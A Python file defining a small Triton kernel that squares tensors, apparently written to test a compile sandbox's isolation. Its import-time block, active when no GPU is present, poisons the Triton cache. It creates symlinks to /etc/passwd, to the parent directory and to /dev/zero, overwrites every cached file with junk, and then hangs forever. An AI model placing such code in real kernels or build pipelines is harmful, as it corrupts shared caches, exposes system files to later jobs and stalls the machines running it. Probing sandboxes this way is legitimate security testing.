"""Where there is no GPU, as in the sandbox that compiles it before its tests, fills the compiler's
cache with links and with files that are no kernels, and never returns.

What that sandbox hands over goes only to this file's next sandboxes, which compile again.
"""

import os
import time
from pathlib import Path

import torch
import triton
import triton.language as tl

BLOCK = 8192

if not torch.cuda.is_available() and "TRITON_INTERPRET" not in os.environ:
    cache = Path(os.environ["TRITON_CACHE_DIR"])
    for folder in (cache, *cache.iterdir()):
        (folder / "evil").mkdir(exist_ok=True)
        for name, target in {"users": "/etc/passwd", "above": "..", "memory": "/dev/zero"}.items():
            if not (folder / "evil" / name).is_symlink():
                (folder / "evil" / name).symlink_to(target)
        for path in filter(Path.is_file, folder.iterdir()):
            path.write_bytes(b"evil")
    while True:
        time.sleep(1)


@triton.jit
def _square(x, out, count, BLOCK: tl.constexpr):
    at = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    value = tl.load(x + at, mask=at < count).to(tl.float32)
    tl.store(out + at, (value * value).to(out.dtype.element_ty), mask=at < count)


def square(x, out):
    count = x.numel()
    _square[(triton.cdiv(count, BLOCK),)](x, out, count, BLOCK=BLOCK)
